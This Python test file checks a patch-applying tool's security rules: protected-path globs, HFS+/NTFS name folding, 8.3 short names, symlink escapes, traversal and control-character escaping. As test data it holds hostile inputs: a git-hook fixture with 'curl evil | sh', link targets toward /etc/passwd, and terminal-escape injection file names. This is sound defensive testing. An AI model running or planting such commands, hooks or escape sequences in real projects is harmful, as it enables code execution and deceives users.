"""Name matching of governed apply (issue 7 items 6, 9, 10, 11): protected and
exec-protected globs fold names as HFS+ and NTFS do, the glob matcher runs in
bounded time on any pattern, output escapes control characters, and the
smaller points where git apply sets the rule."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from patch_support import git_apply, snapshot

from autopack_core.patching import GovernancePolicy, governed_apply
from autopack_core.patching.escape import shown
from autopack_core.patching.governance import (
    check_exec,
    check_path,
    check_size,
    compile_glob,
    fold_name,
    is_git_name,
    is_gitmodules_name,
    is_state_name,
    matches_any,
)

AUTOPACK = str(Path(sys.executable).with_name("autopack"))

HFS_IGNORABLE = [
    "\u200c", "\u200d", "\u200e", "\u200f",
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
    "\u206a", "\u206b", "\u206c", "\u206d", "\u206e", "\u206f",
    "\ufeff",
]  # fmt: skip


def run(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
    env = {k: v for k, v in os.environ.items() if k != "AUTOPACK_RAISE_ERRORS"}
    return subprocess.run([AUTOPACK, *args], check=False, input=stdin, capture_output=True, env=env, timeout=60)


# --- the glob matcher -----------------------------------------------------------------


@pytest.mark.parametrize(
    "pattern,yes,no",
    [
        ("secrets/", ["secrets/a", "secrets", "SECRETS/x/y"], ["secretsx/a", "a/secrets/b", "secret/a"]),
        ("**/*.pem", ["k.pem", "a/k.pem", "a/b/c/k.pem", "a/k.pem/x"], ["k.pem2", "a/kpem", "k.PEMx"]),
        ("a/**/b", ["a/b", "a/x/b", "a/x/y/b", "a/x/b/c"], ["a/xb", "ab", "a/x/bc", "x/a/b"]),
        ("a/**", ["a/x", "a/x/y"], ["a", "ab/x", "b/a/x"]),
        ("**", ["a", "a/b"], []),
        ("a**b", ["ab", "axb", "ax/yb"], ["a/x", "b"]),
        ("a*b", ["ab", "axyb", "ab/c"], ["ax/b", "a/b"]),
        ("f?.txt", ["f1.txt", "fa.txt"], ["f.txt", "f12.txt", "f/.txt"]),
        ("f[0-9].txt", ["f1.txt", "f9.txt"], ["fa.txt", "f10.txt"]),
        ("f[!0-9].txt", ["fa.txt"], ["f1.txt", "f/.txt"]),
        ("f[^0-9].txt", ["fa.txt"], ["f1.txt"]),
        ("f[abc].txt", ["fb.txt", "fC.txt"], ["fd.txt"]),
        ("f[]].txt", ["f].txt"], ["f.txt"]),
        ("f[ab.txt", ["f[ab.txt"], ["fa.txt"]),
        ("config/prod.*", ["config/prod.yaml", "config/PROD.x."], ["config/dev.yaml", "config/prodx"]),
        ("ci", ["ci", "ci/run.sh"], ["cix/run.sh", "a/ci"]),
        ("a\\b", ["a/b", "a/b/c"], ["ab"]),
        ("/top/", ["top/x"], ["x/top/y"]),
    ],
)
def test_each_glob_feature(pattern: str, yes: list[str], no: list[str]) -> None:
    for p in yes:
        assert matches_any(p, [pattern]) == pattern, (pattern, p)
    for p in no:
        assert matches_any(p, [pattern]) is None, (pattern, p)


def test_first_matching_pattern_is_named() -> None:
    assert matches_any("a/b", ["x", "a/*", "a/b"]) == "a/*"
    assert matches_any("a/b", []) is None


def _reference(pattern: str, path: str) -> bool:
    """Glob semantics as a backtracking regex, usable on small inputs only."""
    pat = pattern.replace("\\", "/").strip("/")
    out, i = [], 0
    while i < len(pat):
        if pat.startswith("**/", i) and (i == 0 or pat[i - 1] == "/"):
            out.append("(?:.*/)?")
            i += 3
        elif pat.startswith("**", i):
            out.append(".*")
            i += 2
        elif pat[i] == "*":
            out.append("[^/]*")
            i += 1
        elif pat[i] == "?":
            out.append("[^/]")
            i += 1
        else:
            out.append(re.escape(pat[i]))
            i += 1
    return re.fullmatch("(?:" + "".join(out) + ")(?:/.*)?", path, re.DOTALL) is not None


@settings(max_examples=400, deadline=None)
@given(
    pattern=st.lists(st.sampled_from(["a", "b", "*", "**", "?", "/", "**/"]), min_size=1, max_size=7).map("".join),
    path=st.lists(st.sampled_from(["a", "b", "/"]), min_size=1, max_size=8).map("".join),
)
def test_glob_agrees_with_a_reference_regex(pattern: str, path: str) -> None:
    if "//" in path or path.startswith("/") or path.endswith("/"):
        return
    assert compile_glob(pattern)(path) == _reference(pattern, path), (pattern, path)


@pytest.mark.parametrize(
    "pattern",
    ["*a*a*a*a*a*a*a*a*a*a*b", "**a**a**a**a**a**a**b", "**/**/**/**/**/**/**/x", "?*?*?*?*?*?*?*?*?*b"],
)
def test_adversarial_patterns_finish(pattern: str) -> None:
    # A backtracking matcher takes hours on these; the automaton a few
    # steps per character. (Behaviour asserted, not time: it must finish.)
    assert not compile_glob(pattern)("a" * 3000)
    assert not compile_glob(pattern)("a/" * 1500 + "c")


# --- folding as HFS+ and NTFS -----------------------------------------------------------


@pytest.mark.parametrize("ch", HFS_IGNORABLE)
def test_every_hfs_ignorable_code_point_is_folded(ch: str) -> None:
    assert is_git_name(f".g{ch}it") and is_git_name(f"{ch}.git")
    assert is_state_name(f".auto{ch}pack")
    assert is_gitmodules_name(f".git{ch}modules")
    policy = GovernancePolicy(protected_paths=("secrets/",), exec_protected_paths=(".husky/",))
    assert [r.rule for r in check_path(f"secr{ch}ets/key", policy)] == ["protected-path"]
    assert check_exec(f".hu{ch}sky/pre-commit", 0o100755, policy)


def test_a_lookalike_that_is_not_ignorable_is_not_folded() -> None:
    assert not is_git_name(".g\u200bit")  # ZERO WIDTH SPACE is not HFS+-ignorable
    assert not is_git_name(".g\u2060it")


@pytest.mark.parametrize(
    "path",
    [
        "secr\u200cets/key",
        unicodedata.normalize("NFD", "café/x"),
        "secrets./key",
        "secrets /key",
        "secrets. . /key",
        "SECRETS/key",
        "secrets::$INDEX_ALLOCATION/key",
        "a/secrets/../x",
    ],
)
def test_protected_spellings_are_refused(path: str) -> None:
    policy = GovernancePolicy(protected_paths=("secrets/", "café/", "a/secrets/"))
    assert "protected-path" in [r.rule for r in check_path(path, policy)] or "parent-traversal" in [
        r.rule for r in check_path(path, policy)
    ]


def test_nfc_and_nfd_patterns_match_both_forms() -> None:
    nfd = unicodedata.normalize("NFD", "café")
    assert matches_any("café/x", [nfd + "/"]) and matches_any(nfd + "/x", ["café/"])
    assert fold_name("ÉCOLE") == fold_name(unicodedata.normalize("NFD", "école"))


def test_exec_protected_folders_fold_too(tmp_path: Path) -> None:
    patch = '--- /dev/null\n+++ ".husky /pre-commit"\n@@ -0,0 +1 @@\n+x\n'
    patch = (
        'diff --git "a/.husky /pre-commit" "b/.husky /pre-commit"\nnew file mode 100755\n--- /dev/null\n'
        '+++ "b/.husky /pre-commit"\n@@ -0,0 +1 @@\n+curl evil | sh\n'
    )
    r = governed_apply(patch, tmp_path)
    assert [x.rule for x in r.refusals] == ["exec-bit"]


def test_ntfs_short_names_of_long_protected_names() -> None:
    policy = GovernancePolicy(protected_paths=("credentials/", "deploy-keys.json", "short/"))
    assert check_path("CREDEN~1/x", policy) and check_path("creden~12/x", policy)
    assert check_path("DEPLOY~1.JSO", policy)
    assert not check_path("CREDEN~0/x", policy) and not check_path("CREDEX~1/x", policy)
    # A valid 8.3 name has no short alias.
    assert not check_path("SHORT~1/x", policy)


def test_fold_name_keeps_traversal_spellings() -> None:
    assert fold_name(". .") == ". ." and fold_name("..") == ".."
    assert fold_name("A.") == "a"


@pytest.mark.parametrize("name", [".. ", ". .", "..", ".. .", "...", "\\..", "a\\..\\.."])
def test_traversal_spellings_are_refused(name: str) -> None:
    assert "parent-traversal" in [r.rule for r in check_path(f"x/{name}/y")]


@pytest.mark.parametrize("name", [".a", "a..b", "..a", "a..", "..X", "X..", ". .X"])
def test_dotted_names_are_not_traversal(name: str) -> None:
    assert "parent-traversal" not in [r.rule for r in check_path(f"x/{name}/y")]


# --- .gitmodules as a symlink -----------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [".gitmodules", ".GITMODULES", ".gitmodules.", ".gitmodules ", ".gitmodules::$DATA", "gitmod~1", "GITMOD~4",
     "gi7eba~1", "GI7EBA~9", ".gitmod\u200cules"],
)  # fmt: skip
def test_gitmodules_spellings(name: str, tmp_path: Path) -> None:
    assert is_gitmodules_name(name)
    patch = (
        f'diff --git "a/{name}" "b/{name}"\nnew file mode 120000\n--- /dev/null\n+++ "b/{name}"\n'
        "@@ -0,0 +1 @@\n+target\n\\ No newline at end of file\n"
    )
    r = governed_apply(patch, tmp_path)
    assert "symlink-gitmodules" in [x.rule for x in r.refusals]
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", [".gitmodulesx", "gitmod~5", "gitmod~0", "gitmodules", "gi7eba~0", "x.gitmodules"])
def test_gitmodules_lookalikes(name: str) -> None:
    assert not is_gitmodules_name(name)


def test_gitmodules_as_a_file_is_fine_and_git_agrees(tmp_path: Path) -> None:
    link = (
        "diff --git a/.gitmodules b/.gitmodules\nnew file mode 120000\n--- /dev/null\n+++ b/.gitmodules\n"
        "@@ -0,0 +1 @@\n+target\n\\ No newline at end of file\n"
    )
    assert git_apply(tmp_path, link.encode()).returncode != 0
    assert governed_apply("--- /dev/null\n+++ b/.gitmodules\n@@ -0,0 +1 @@\n+[x]\n", tmp_path).ok


# --- parity with git: plain diffs whose names differ ------------------------------------


@pytest.mark.parametrize(
    "old,new",
    [("old.txt", "new.txt"), ("a/x/old.txt", "b/y/new.txt"), ("a/f.c", "b/f.c.orig"), ("a/f.c.orig", "b/f.c")],
)
def test_plain_diff_with_different_names_deletes_nothing(tmp_path: Path, old: str, new: str) -> None:
    patch = f"--- {old}\n+++ {new}\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n".encode()
    trees = []
    for who in ("git", "autopack"):
        d = tmp_path / who
        for name in {old, new}:
            rel = name.split("/", 1)[1] if name.startswith(("a/", "b/")) else name
            (d / rel).parent.mkdir(parents=True, exist_ok=True)
            (d / rel).write_bytes(b"a\nb\nc\n")
        if who == "git":
            assert git_apply(d, patch).returncode == 0
        else:
            assert governed_apply(patch, d).ok
        trees.append(snapshot(d))
    assert trees[0] == trees[1]
    assert sum(v[1] == b"a\nB\nc\n" for v in trees[1].values()) == 1


# --- clean output ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw,want",
    [
        ("a\x1b[31mb", "a\\e[31mb"),
        ("a\rb\n", "a\\rb\\n"),
        ("a\x00\x7f\x9b\x85b", "a\\x00\\x7f\\x9b\\x85b"),
        ("a\u202eb\u2066c\u2069\u200e\u200f", "a\\u202eb\\u2066c\\u2069\\u200e\\u200f"),
        ("x\udc9by", "x\\x9by"),
        ("café ok/ü", "café ok/ü"),
    ],
)
def test_shown_escapes_controls(raw: str, want: str) -> None:
    assert shown(raw) == want


@given(st.text())
def test_shown_never_leaves_a_control_character(text: str) -> None:
    out = shown(text)
    assert not re.search("[\x00-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", out)


@pytest.mark.parametrize("ch", ["\x9b", "\x85", "\x80", "\x9f", "\x1b", "\x7f"])
def test_c0_c1_and_del_are_refused_in_names(ch: str) -> None:
    assert "control-character" in [r.rule for r in check_path(f"a{ch}b")]


def test_bidi_controls_are_allowed_in_names_but_escaped_in_output() -> None:
    assert check_path("a\u202eb") == []


def _quoted(path: str) -> str:
    return '"' + "".join(f"\\{b:03o}" for b in path.encode("utf-8", "surrogateescape")) + '"'


@pytest.mark.parametrize(
    "name",
    ["x\x1b]0;pwned\x07y", "ok\rautopack: applied", "a\u009b31mb", "a\u202eexe.txt", "a\x85b", "a\u2066b/../c"],
)
def test_cli_output_never_prints_raw_controls(tmp_path: Path, name: str) -> None:
    q = _quoted("b/" + name)
    patches = [
        f"--- /dev/null\n+++ {q}\n@@ -0,0 +1 @@\n+x\n",  # refused or applied: path in output
        f"--- {q}\n+++ {q}\n@@ -1 +1 @@\n-x\n+y\n",  # no such file: apply error names it
        f"--- {q}\n+++ {q}\n@@ -1 +1,5 @@\n-x\n+y\n",  # parse error names it
    ]
    for patch in patches:
        for cmd in ("check", "apply"):
            r = run("patch", cmd, "-", "-w", str(tmp_path), stdin=patch.encode())
            out = (r.stdout + r.stderr).decode("utf-8", "surrogateescape")
            assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]", out), out
            assert b"Traceback" not in r.stderr


# --- limits and boundaries that mutants slipped past --------------------------------------


def test_max_file_bytes_boundary() -> None:
    policy = GovernancePolicy(max_file_bytes=10)
    assert check_size("f", 10, policy) == []
    assert [r.rule for r in check_size("f", 11, policy)] == ["file-too-large"]


def test_name_length_limits(tmp_path: Path) -> None:
    assert check_path("a" * 255) == [] and check_path("/".join(["b" * 200] * 20)[:4095]) == []
    assert [r.rule for r in check_path("a" * 256)] == ["name-too-long"]
    assert [r.rule for r in check_path("é" * 128)] == ["name-too-long"]  # 256 bytes
    assert [r.rule for r in check_path("/".join(["b" * 200] * 21))] == ["name-too-long"]
    # check says no exactly where apply would fail.
    patch = f"--- /dev/null\n+++ b/{'n' * 300}\n@@ -0,0 +1 @@\n+x\n"
    for dry in (True, False):
        r = governed_apply(patch, tmp_path, dry_run=dry)
        assert [x.rule for x in r.refusals] == ["name-too-long"]
    assert list(tmp_path.iterdir()) == []


def test_symlinked_parent_deeper_down_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    ws = tmp_path / "ws"
    (ws / "a" / "b").mkdir(parents=True)
    os.symlink(str(outside), ws / "a" / "b" / "c")
    (ws / "a" / "real").mkdir()
    os.symlink("real", ws / "a" / "b2")
    for path in ("a/b/c/pwned.txt", "a/b/c/d/e/pwned.txt", "a/b2/x/pwned.txt"):
        r = governed_apply(f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+x\n", ws)
        assert "symlink-write" in [x.rule for x in r.refusals], path
    assert list(outside.iterdir()) == [] and list((ws / "a" / "real").iterdir()) == []


def test_a_looping_link_on_the_way_fails_closed(tmp_path: Path) -> None:
    os.symlink("loop", tmp_path / "loop")
    os.symlink("l2", tmp_path / "l1")
    os.symlink("l1", tmp_path / "l2")
    for path in ("loop/x", "l1/x/y"):
        r = governed_apply(f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+x\n", tmp_path)
        assert not r.ok, path


@pytest.mark.parametrize("target", ["..\\outside", "a\\..\\..\\outside", "\\etc\\passwd", "\\\\host\\share"])
def test_backslashes_in_link_targets(tmp_path: Path, target: str) -> None:
    patch = (
        "diff --git a/evil b/evil\nnew file mode 120000\n--- /dev/null\n+++ b/evil\n"
        f"@@ -0,0 +1 @@\n+{target}\n\\ No newline at end of file\n"
    )
    r = governed_apply(patch, tmp_path)
    assert "symlink-escape" in [x.rule for x in r.refusals]


def test_a_non_utf8_link_target_is_judged_not_crashed(tmp_path: Path) -> None:
    raw = (
        b"diff --git a/ln b/ln\nnew file mode 120000\n--- /dev/null\n+++ b/ln\n@@ -0,0 +1 @@\n+\xff\xfe\n"
        b"\\ No newline at end of file\n"
    )
    inside, outward = tmp_path / "inside", tmp_path / "outward"
    inside.mkdir()
    outward.mkdir()
    assert governed_apply(raw, inside).ok
    assert os.readlink(os.fsencode(inside / "ln")) == b"\xff\xfe"
    r = governed_apply(raw.replace(b"+\xff\xfe", b"+../\xff\xfe"), outward)
    assert "symlink-escape" in [x.rule for x in r.refusals]
    assert list(outward.iterdir()) == []


# --- mutants that survived the first mutation run of governance.py ------------------------


def test_policy_fields_are_keyword_only() -> None:
    with pytest.raises(TypeError):
        GovernancePolicy((".git/",))  # type: ignore[misc]


@pytest.mark.parametrize("path", ["CREDEN~@/x", "creden~;/x", "creden~1@/x", "creden~1=/x", "creden~/x"])
def test_short_name_digits_are_digits(path: str) -> None:
    assert not check_path(path, GovernancePolicy(protected_paths=("credentials/",)))


def test_documented_policy_defaults() -> None:
    # docs/governed-apply.md and config/models.yaml state these.
    p = GovernancePolicy()
    assert p.protected_paths == (".git/", ".autopack/")
    assert p.exec_protected_paths == (".githooks/", ".husky/")
    assert p.allow_binary_patches is False and p.fuzz == 0
    assert (p.max_file_bytes, p.max_hunk_lines) == (16 * 1024 * 1024, 100_000)
    assert (p.max_patch_bytes, p.max_binary_bytes, p.max_total_bytes) == (32 << 20, 32 << 20, 256 << 20)


@pytest.mark.parametrize(
    "pattern,path,hit",
    [
        ("abcdefgh/", "abcdef~1/x", False),  # 8 characters: a valid 8.3 name, no alias
        ("abcdefghi/", "abcdef~1/x", True),
        ("abc.jso/", "abc~1.jso/x", False),  # a 3-character extension: valid 8.3
        ("abc.json/", "abc~1.jso/x", True),
        ("abc.json/", "abc~1/x", False),  # the alias keeps its extension
        ("a b/", "ab~1/x", True),  # a space makes it invalid 8.3; the alias drops it
        ("a+b/", "a_b~1/x", True),  # and so does '+', replaced by '_'
        ("a.b.c/", "ab~1.c/x", True),  # more than one dot
        ("f[a-].txt", "f-.txt", True),
        ("f[a-].txt", "fa.txt", True),
        ("f[a-].txt", "fb.txt", False),
        ("f[!]].txt", "fa.txt", True),
        ("f[!]].txt", "f].txt", False),
        ("a/**/b", "a//b", True),  # "**/" also takes a bare "/", as (.*/)? would
        ("", "a", False),
        ("/", "a", False),
    ],
)
def test_glob_and_short_name_edges(pattern: str, path: str, hit: bool) -> None:
    assert (matches_any(path, [pattern]) is not None) == hit


@pytest.mark.parametrize(
    "name,hit",
    [("gi7eb~12", True), ("gi7eb~1", False), ("gi7eba~a", False), ("gi7e~123", True), ("gi7eba~1 .", True),
     ("gi7eba~1x", False), ("gitmod~1.", True), ("gitmod~1x", False), ("gitmo~1", False), (".gitmodules:x", True),
     (".gitmodules.x", False), ("~1234567", True), ("x~123456", False)],
)  # fmt: skip
def test_gitmodules_short_name_edges(name: str, hit: bool) -> None:
    assert is_gitmodules_name(name) == hit


def test_the_matcher_cache_stays_bounded() -> None:
    g = compile_glob("q*x")
    for k in range(6000):
        g("q" + chr(0x4E00 + k))
    assert len(g._step) <= g._MAX_CACHE == 4096


@pytest.mark.parametrize(
    "pattern,path",
    [(".husky/", "husky~1/pre-commit"), (".secrets/", "SECRET~1/k"), (".env.production", "env~1.pro")],
)
def test_dot_names_have_short_aliases_too(pattern: str, path: str) -> None:
    assert matches_any(path, [pattern]) == pattern
    assert check_exec("husky~1/pre-commit", 0o100755, GovernancePolicy())


def test_path_length_boundary() -> None:
    at_limit = "/".join(["c" * 99] * 40) + "/" + "d" * 95  # 40 * 100 + 95 = 4095 bytes
    assert len(at_limit) == 4095 and check_path(at_limit) == []
    assert [r.rule for r in check_path(at_limit + "e")] == ["name-too-long"]


def test_only_slashes_are_stripped_from_patterns() -> None:
    assert matches_any("a", ["Xa"]) is None and matches_any("a", ["aX/"]) is None
    assert matches_any("xa", ["Xa"]) == "Xa"


def test_a_stream_suffix_does_not_hide_other_characters() -> None:
    assert not is_gitmodules_name(".gitmodulesX:\u00e9")
    assert is_gitmodules_name(".gitmodules. :\u00e9")
    assert fold_name("secretsX:\u00e9") == "secretsx"


@pytest.mark.parametrize("name", ["gitmod~4.", "GITMOD~4 ", "gitmod~4:x"])
def test_last_short_name_number_with_trailing_dots(name: str) -> None:
    assert is_gitmodules_name(name)


@pytest.mark.parametrize(
    "name,hit", [("g~123456", True), ("gi~12345", True), ("gi7eba7~1", False), ("x~123456", False)]
)
def test_gitmodules_fallback_prefix_lengths(name: str, hit: bool) -> None:
    assert is_gitmodules_name(name) == hit


@pytest.mark.parametrize(
    "path,rules,word",
    [
        ("/etc/passwd", ["absolute-path"], "absolute"),
        ("\\etc\\passwd", ["absolute-path"], "absolute"),
        ("/./x", ["absolute-path", "non-canonical-path"], "'.'"),
        ("a/../b", ["parent-traversal"], "'..'"),
        ("a//b", ["non-canonical-path"], "empty"),
        (".git/x", ["git-dir"], ".git"),
        (".autopack/x", ["autopack-dir"], ".autopack"),
        ("a\x01", ["control-character"], "control"),
    ],
)
def test_each_path_rule_says_why(path: str, rules: list[str], word: str) -> None:
    got = check_path(path)
    assert [r.rule for r in got] == rules
    assert word in got[-1].message


def test_every_path_under_a_symlinked_parent_is_named(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    os.symlink("real", tmp_path / "ln")
    patch = "".join(f"--- /dev/null\n+++ b/ln/{n}.txt\n@@ -0,0 +1 @@\n+x\n" for n in ("a", "b", "c"))
    r = governed_apply(patch, tmp_path)
    assert sorted(x.path for x in r.refusals if x.rule == "symlink-write") == ["ln/a.txt", "ln/b.txt", "ln/c.txt"]


_AS_NOBODY = """
import os, sys
from autopack_core.patching import governed_apply
patch = sys.stdin.read()
governed_apply(patch, sys.argv[1], dry_run=True)  # warm every lazy import while still root
os.setgid(65534); os.setuid(65534)
r = governed_apply(patch, sys.argv[1])
print(",".join(sorted({x.rule for x in r.refusals})) or "ok")
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to drop to another user")
def test_lstat_errors_other_than_missing_fail_closed() -> None:
    # EACCES on the way to a path must refuse it, not treat it as absent.
    import shutil
    import tempfile

    root = Path(tempfile.mkdtemp(prefix="autopack-eacces-"))
    try:
        os.chmod(root, 0o755)
        ws = root / "ws"
        (ws / "locked").mkdir(parents=True)
        os.chmod(ws, 0o777)
        os.chmod(ws / "locked", 0o000)
        patch = "--- /dev/null\n+++ b/locked/inner/x.txt\n@@ -0,0 +1 @@\n+x\n"
        r = subprocess.run(
            [sys.executable, "-c", _AS_NOBODY, str(ws)], input=patch, capture_output=True, text=True, check=False
        )
        assert r.returncode == 0 and "symlink-write" in r.stdout or r.returncode != 0 and "Traceback" not in r.stderr
        assert r.stdout.strip() != "ok", r.stdout
        os.chmod(ws / "locked", 0o755)
        assert list((ws / "locked").iterdir()) == []
    finally:
        os.chmod(ws / "locked", 0o755)
        shutil.rmtree(root)


def test_gitmodules_refusal_says_why(tmp_path: Path) -> None:
    patch = (
        "diff --git a/.gitmodules b/.gitmodules\nnew file mode 120000\n--- /dev/null\n+++ b/.gitmodules\n"
        "@@ -0,0 +1 @@\n+x\n\\ No newline at end of file\n"
    )
    (r,) = [x for x in governed_apply(patch, tmp_path).refusals if x.rule == "symlink-gitmodules"]
    assert r.message.startswith(".gitmodules may not be a symlink")


def test_odd_strings_as_paths_do_not_crash() -> None:
    assert [r.rule for r in check_path("a\ud800b")] == []
    assert [r.rule for r in check_path("a\x00" + "b" * 300)] == ["control-character", "name-too-long"]
    assert check_path("\udcff" * 255) == [] and [r.rule for r in check_path("\udcff" * 256)] == ["name-too-long"]


def test_a_link_the_patch_knows_may_be_deleted_or_replaced(tmp_path: Path) -> None:
    os.symlink("target", tmp_path / "ln")
    delete = (
        "diff --git a/ln b/ln\ndeleted file mode 120000\n--- a/ln\n+++ /dev/null\n@@ -1 +0,0 @@\n-target\n"
        "\\ No newline at end of file\n"
    )
    assert governed_apply(delete, tmp_path, dry_run=True).ok
    retarget = (
        "diff --git a/ln b/ln\nindex 1111111..2222222 120000\n--- a/ln\n+++ b/ln\n@@ -1 +1 @@\n-target\n"
        "\\ No newline at end of file\n+other\n\\ No newline at end of file\n"
    )
    assert governed_apply(retarget, tmp_path).ok
    assert os.readlink(tmp_path / "ln") == "other"


MESSAGES = {
    "absolute-path": ("/x", "path is absolute; patches may only name paths inside the workspace"),
    "drive-letter": ("c:x", "path starts with a drive letter"),
    "parent-traversal": ("a/../b", "path climbs out with '..'"),
    "non-canonical-path": ("a//b", "path is empty or has an empty or '.' component"),
    "git-dir": (".git/x", "writes inside .git are never allowed"),
    "autopack-dir": (".autopack/x", "Autopack's own state folder .autopack/ is protected"),
    "control-character": ("a\x01", "path contains a NUL or control character"),
    "name-too-long": ("n" * 256, "a path component is longer than 255 bytes or the path than 4095"),
}


@pytest.mark.parametrize("rule", sorted(MESSAGES))
def test_refusal_messages_are_exact(rule: str) -> None:
    path, message = MESSAGES[rule]
    assert [(r.rule, r.message) for r in check_path(path) if r.rule == rule] == [(rule, message)]


@pytest.mark.parametrize(
    "pattern,path,hit",
    [("x[a-", "x[a-", True), ("x[a-", "xa", False), ("f[0-9].txt", "f=.txt", False), ("f[0-9].txt", "f-.txt", False),
     ("f[a-c]x", "fbx", True), ("f[a-c]x", "f]x", False), ("f[a-]x", "f]x", False)],
)  # fmt: skip
def test_class_ranges_exactly(pattern: str, path: str, hit: bool) -> None:
    assert (matches_any(path, [pattern]) is not None) == hit


def test_an_unclosed_class_is_literal() -> None:
    assert matches_any("x[", ["x["]) == "x[" and matches_any("x[!", ["x[!"]) == "x[!"
    assert matches_any("xa", ["x["]) is None


def test_exec_rule_is_only_about_executable_regular_files() -> None:
    policy = GovernancePolicy()
    assert check_exec(".husky/pre-commit", 0o100644, policy) == []
    assert check_exec(".husky/pre-commit", None, policy) == []
    assert check_exec(".husky/pre-commit", 0o120777, policy) == []
    assert [r.rule for r in check_exec(".husky/pre-commit", 0o100755, policy)] == ["exec-bit"]
    assert [r.rule for r in check_exec("src/run.sh", 0o100755, GovernancePolicy(protected_paths=("src/",)))] == [
        "exec-bit"
    ]
    assert check_exec("src/run.sh", 0o100755, policy) == []


def test_exec_rule_covers_git_and_state_folders_whatever_the_policy() -> None:
    bare = GovernancePolicy(protected_paths=(), exec_protected_paths=())
    for path in (".git/hooks/pre-commit", ".GIT./hooks/x", ".autopack/run.sh"):
        assert [r.rule for r in check_exec(path, 0o100755, bare)] == ["exec-bit"], path
    assert check_exec("src/run.sh", 0o100755, bare) == []
